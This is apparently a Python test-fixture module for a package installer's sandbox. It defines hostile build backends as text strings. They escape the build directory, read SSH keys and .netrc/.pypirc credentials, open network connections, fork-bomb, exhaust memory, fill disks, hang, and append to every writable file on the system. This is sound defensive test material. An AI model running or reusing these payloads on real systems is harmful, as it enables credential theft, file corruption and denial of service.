"""Hostile sdists: in-tree backends whose ``build_wheel`` misbehaves, for testing the install sandbox.

Each snippet is appended to the harmless :mod:`backend` source and redefines ``_before_build``, so
``get_requires_for_build_wheel`` and ``prepare_metadata_for_build_wheel`` stay harmless and the evil runs in
``build_wheel`` only, which is what an installer's sandbox must contain.  ``evil-tamper`` is the exception:
its metadata hooks are hostile too, and its PKG-INFO is not trusted static metadata, so that resolving it
attacks the resolver's sandbox as well.  Where the evil terminates, the wheel
is still built and its module records what happened in a constant, for tests to inspect after a sandboxed
install.  These snippets are text on purpose: nothing in this test suite ever executes them.
"""

from __future__ import annotations

from textwrap import dedent

from .wheelbuilder import BACKEND_SOURCE, Package, Sdist, module_text

# Separates the harmless backend from the hostile redefinition in each hostile sdist's backend file.
HOSTILE_MARKER = "# --- hostile part ---"

ESCAPE = """
def _before_build():
    import os

    marker = "ol-escape-marker"
    fixed = ["~/", "/root/", "/home/", "/", "/var/tmp/", "/work/"]
    targets = [os.path.expanduser(prefix + marker) for prefix in fixed]
    directory = os.getcwd()
    while os.path.dirname(directory) != directory:
        directory = os.path.dirname(directory)
        targets.append(os.path.join(directory, marker))
    results = {}
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("written by evil-escape building in " + os.getcwd() + "\\n")
            results[path] = "written"
        except OSError as error:
            results[path] = "%s: %s" % (type(error).__name__, error)
    return {"evil_escape/__init__.py": "RESULTS = %r\\n" % (results,)}
"""

HOME = """
def _before_build():
    import glob
    import os

    paths = [os.path.expanduser("~/.ol-secret"), "/root/.ol-secret"] + sorted(glob.glob("/home/*/.ol-secret"))
    paths += [os.path.expanduser(p) for p in ("~/.ssh/id_rsa", "~/.netrc", "~/.pypirc")]
    stolen = {}
    for path in paths:
        try:
            with open(path, errors="replace") as handle:
                stolen[path] = handle.read(4096)
        except OSError as error:
            stolen[path] = "%s: %s" % (type(error).__name__, error)
    return {"evil_home/__init__.py": "STOLEN = %r\\n" % (stolen,)}
"""

# Prefixed with ``TARGETS = [(host, port), ...]`` when the catalogue is built.
NET = """
def _before_build():
    import socket

    outcome = {}
    for host, port in TARGETS:
        key = "%s:%d" % (host, port)
        try:
            with socket.create_connection((host, port), timeout=5) as connection:
                connection.sendall(b"evil-net was here\\n")
            outcome[key] = "connected"
        except OSError as error:
            outcome[key] = "%s: %s" % (type(error).__name__, error)
    return {"evil_net/__init__.py": "NET = %r\\n" % (outcome,)}
"""

FORKBOMB = """
def _before_build():
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

ALLOC = """
def _before_build():
    hoard = []
    while True:
        block = bytearray(10 * 1024 * 1024)
        for offset in range(0, len(block), 4096):
            block[offset] = 1
        hoard.append(block)
"""

FILL = """
def _before_build():
    import itertools
    import os

    chunk = os.urandom(1 << 20)
    for count in itertools.count():
        for directory in (os.getcwd(), "/tmp"):
            try:
                with open(os.path.join(directory, "ol-fill-%d-%d" % (os.getpid(), count)), "wb") as handle:
                    handle.write(chunk)
                with open(os.path.join(directory, "ol-fill-%d-growing" % os.getpid()), "ab") as handle:
                    handle.write(chunk)
            except OSError:
                pass
"""

# Appended to every file it can open for appending (after giving itself the write bit, as an owner may),
# anywhere but in its own source tree and build environment: uv's caches, the store, any writable mount.
# Runs in each hook a resolver or a builder calls, so both the resolve sandbox (metadata) and the build
# sandbox (wheel) are attacked; the wheel records what the build stage managed to append to.
TAMPER = """
MARKER = b"\\n# tampered by evil-tamper\\n"


def _tamper(stage):
    import os
    import stat
    import sys

    own = (os.getcwd(), sys.prefix)
    appended, refused = [], 0
    for directory, subdirectories, names in os.walk("/"):
        if directory in ("/proc", "/sys", "/dev") or directory.startswith(own):
            subdirectories[:] = []
            continue
        try:
            if os.statvfs(directory).f_flag & os.ST_RDONLY:
                continue
        except OSError:
            continue
        for name in names:
            path = os.path.join(directory, name)
            try:
                if not stat.S_ISREG(os.lstat(path).st_mode):
                    continue
                os.chmod(path, os.lstat(path).st_mode | 0o200)
                with open(path, "ab") as handle:
                    handle.write(MARKER)
                appended.append(path)
            except OSError:
                refused += 1
    return {"stage": stage, "appended": appended, "refused": refused}


_harmless_get_requires = get_requires_for_build_wheel
_harmless_prepare_metadata = prepare_metadata_for_build_wheel


def get_requires_for_build_wheel(config_settings=None):
    _tamper("get_requires_for_build_wheel")
    return _harmless_get_requires(config_settings)


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    _tamper("prepare_metadata_for_build_wheel")
    return _harmless_prepare_metadata(metadata_directory, config_settings)


def _before_build():
    return {"evil_tamper/__init__.py": "TAMPER = %r\\n" % (_tamper("build_wheel"),)}
"""

HANG = """
def _before_build():
    import time

    while True:
        time.sleep(3600)
"""


def _hostile(name: str, snippet: str, prelude: str = "", static_metadata: bool = True) -> Package:
    module = name.replace("-", "_")
    source = f"{BACKEND_SOURCE}\n\n{HOSTILE_MARKER}\n{prelude}{dedent(snippet)}"
    return Package(
        name,
        "1.0",
        {f"{module}/__init__.py": module_text(name, "1.0")},
        wheel_tag=None,
        sdist=Sdist(backend_source=source, static_metadata=static_metadata),
    )


def hostile_packages(net_targets: list[tuple[str, int]]) -> list[Package]:
    """The hostile sdists; ``evil-net`` gets ``net_targets`` (canary, index server) baked in."""
    return [
        _hostile("evil-escape", ESCAPE),
        _hostile("evil-home", HOME),
        _hostile("evil-net", NET, prelude=f"TARGETS = {net_targets!r}\n"),
        _hostile("evil-forkbomb", FORKBOMB),
        _hostile("evil-alloc", ALLOC),
        _hostile("evil-fill", FILL),
        _hostile("evil-hang", HANG),
        _hostile("evil-tamper", TAMPER, static_metadata=False),
    ]
